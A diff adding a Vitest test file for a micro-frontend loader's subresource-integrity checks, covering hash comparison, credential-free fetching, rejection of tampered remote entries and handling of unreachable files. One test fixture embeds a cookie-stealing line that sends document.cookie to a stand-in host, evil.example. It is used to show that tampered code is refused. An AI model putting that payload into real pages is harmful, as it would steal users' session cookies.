@@ -1,0 +1,104 @@
+import { createHash } from 'node:crypto';
+import type { ManifestEntry } from '@carpeta/sdk';
+import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
+
+vi.mock('@module-federation/runtime', () => ({
+  registerPlugins: vi.fn(),
+  registerRemotes: vi.fn(),
+  loadRemote: vi.fn(),
+}));
+const runtime = vi.mocked(await import('@module-federation/runtime'));
+const { loadLifecycles, RemoteLoadError, verifyIntegrity } = await import('./federation.ts');
+
+const REMOTE_ENTRY = 'export const init = () => {}; // remote entry of carpeta_files\n';
+const sri = (algorithm: string, text: string) =>
+  `${algorithm}-${createHash(algorithm).update(text).digest('base64')}`;
+
+const lifecycles = { bootstrap: async () => {}, mount: async () => {}, unmount: async () => {} };
+
+function entry(id: string, integrity?: string): ManifestEntry {
+  return {
+    id,
+    title: { es: id },
+    owner: { id: 'x', name: 'X' },
+    kind: 'domain',
+    route: `/${id}`,
+    nav: { order: 1, show: true },
+    framework: 'react',
+    remote: {
+      name: `carpeta_${id}`,
+      entry: `https://mfe.example.es/${id}/remoteEntry.js`,
+      expose: './lifecycles',
+    },
+    minLoa: 'low',
+    public: false,
+    api: [],
+    scopes: [],
+    version: '1.0.0',
+    ...(integrity ? { integrity } : {}),
+  };
+}
+
+let served = REMOTE_ENTRY;
+const fetchMock = vi.fn(async () => new Response(served, { status: 200 }));
+
+beforeEach(() => {
+  served = REMOTE_ENTRY;
+  fetchMock.mockClear();
+  vi.stubGlobal('fetch', fetchMock);
+  runtime.registerRemotes.mockClear();
+  runtime.loadRemote.mockReset();
+  runtime.loadRemote.mockResolvedValue({ default: lifecycles });
+});
+afterEach(() => {
+  vi.unstubAllGlobals();
+});
+
+describe('verifyIntegrity', () => {
+  it('compares the SHA-256/384/512 of the bytes with the hash', async () => {
+    for (const algorithm of ['sha256', 'sha384', 'sha512']) {
+      expect(await verifyIntegrity('https://x/remoteEntry.js', sri(algorithm, REMOTE_ENTRY))).toBe(true);
+      expect(await verifyIntegrity('https://x/remoteEntry.js', sri(algorithm, `${REMOTE_ENTRY} `))).toBe(
+        false,
+      );
+    }
+    expect(await verifyIntegrity('https://x/remoteEntry.js', 'md5-abc')).toBe(false);
+    // Never from a cached copy, never with the citizen's cookies.
+    expect(fetchMock).toHaveBeenCalledWith('https://x/remoteEntry.js', {
+      cache: 'no-cache',
+      credentials: 'omit',
+    });
+  });
+});
+
+describe('loadLifecycles with integrity', () => {
+  it('runs a remote whose entry file matches its hash', async () => {
+    const loaded = await loadLifecycles(entry('good', sri('sha384', REMOTE_ENTRY)), 1000);
+    expect(loaded).toBe(lifecycles);
+    expect(fetchMock).toHaveBeenCalledTimes(1);
+    expect(runtime.registerRemotes).toHaveBeenCalledTimes(1);
+  });
+
+  it('refuses a remote whose entry file does not match, before the runtime ever sees it', async () => {
+    served = `${REMOTE_ENTRY}fetch('https://evil.example/steal?c=' + document.cookie);\n`;
+    const failure = await loadLifecycles(entry('tampered', sri('sha384', REMOTE_ENTRY)), 1000).catch(
+      (error: unknown) => error,
+    );
+    expect(failure).toBeInstanceOf(RemoteLoadError);
+    expect(failure).toMatchObject({ failure: 'integrity', mfeId: 'tampered' });
+    expect(runtime.registerRemotes).not.toHaveBeenCalled();
+    expect(runtime.loadRemote).not.toHaveBeenCalled();
+  });
+
+  it('loads an entry without a hash as before, without fetching it first', async () => {
+    expect(await loadLifecycles(entry('unpinned'), 1000)).toBe(lifecycles);
+    expect(fetchMock).not.toHaveBeenCalled();
+  });
+
+  it('an unreachable entry file is a load failure', async () => {
+    fetchMock.mockResolvedValueOnce(new Response('nope', { status: 404 }));
+    await expect(loadLifecycles(entry('gone', sri('sha384', REMOTE_ENTRY)), 1000)).rejects.toMatchObject({
+      failure: 'load',
+    });
+  });
+});
